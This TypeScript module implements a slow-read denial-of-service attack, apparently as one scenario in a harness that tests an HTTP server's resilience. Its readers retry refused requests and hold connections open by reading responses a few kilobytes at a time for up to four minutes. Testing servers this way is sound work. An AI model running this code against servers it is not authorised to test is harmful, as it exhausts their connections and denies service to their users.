import { Agent, get, type IncomingMessage } from 'node:http';
import { setTimeout as pause } from 'node:timers/promises';
import type { Attack, Begin } from './attack.ts';

/** What a slow reader takes of a response, and how often: enough not to be taken for one that has gone. */
const BYTES = 2048;
const READ_MS = 500;
const TRY_AGAIN_MS = 500;
/** How long readers are waited for before the attack counts as under way. */
const UNDER_WAY_SECONDS = 3;
/** No reader goes on longer than this. */
const LONGEST_SECONDS = 240;

class SlowReader {
  readonly #url: string;
  readonly #agent: Agent;
  readonly #end = performance.now() + LONGEST_SECONDS * 1000;
  #stopped = false;
  #refused = 0;
  #broken = 0;
  #response: IncomingMessage | undefined;
  /** Resolves when its response has begun, or when it has given up. */
  readonly reading: Promise<void>;

  constructor(url: string, agent: Agent) {
    this.#url = url;
    this.#agent = agent;
    this.reading = this.#read();
  }

  /** Of its requests. */
  get counts(): { answered: number; refused: number; broken: number } {
    return { answered: this.#response ? 1 : 0, refused: this.#refused, broken: this.#broken };
  }

  stop(): void {
    this.#stopped = true;
    this.#response?.destroy();
  }

  async #read(): Promise<void> {
    while (!this.#response && !this.#stopped && performance.now() < this.#end) {
      const response = await this.#ask();
      if (response?.statusCode === 200) this.#response = response;
      else {
        if (response) this.#refused += 1;
        else this.#broken += 1;
        response?.resume();
        await pause(TRY_AGAIN_MS);
      }
    }
    if (this.#response) void this.#readSlowly(this.#response);
  }

  #ask(): Promise<IncomingMessage | undefined> {
    return new Promise((resolve) => {
      const signal = AbortSignal.timeout(LONGEST_SECONDS * 1000);
      const asked = get(this.#url, { agent: this.#agent, signal }, resolve);
      asked.on('error', () => resolve(undefined));
    });
  }

  async #readSlowly(response: IncomingMessage): Promise<void> {
    response.on('error', () => {});
    response.pause();
    while (!this.#stopped && !response.destroyed && performance.now() < this.#end) {
      response.read(BYTES);
      await pause(READ_MS);
    }
    response.destroy();
  }
}

/** As many clients as paths, each of which reads its response as slowly as it may; one that is refused asks again. */
export function slowReaders(paths: readonly string[]): Attack['prepare'] {
  return async ({ server }): Promise<Begin> => {
    return async () => {
      const agent = new Agent({ maxSockets: paths.length });
      const readers = paths.map((path) => new SlowReader(`${server.origin}${path}`, agent));
      const all = Promise.all(readers.map(({ reading }) => reading));
      await Promise.race([all, pause(UNDER_WAY_SECONDS * 1000, undefined, { ref: false })]);
      return {
        stop: async () => {
          for (const reader of readers) reader.stop();
          agent.destroy();
          const sum = (field: 'answered' | 'refused' | 'broken') =>
            readers.reduce((total, { counts }) => total + counts[field], 0);
          return {
            answered: sum('answered'),
            refused: sum('refused'),
            broken: sum('broken'),
            asked: paths[0] ?? '',
          };
        },
      };
    };
  };
}
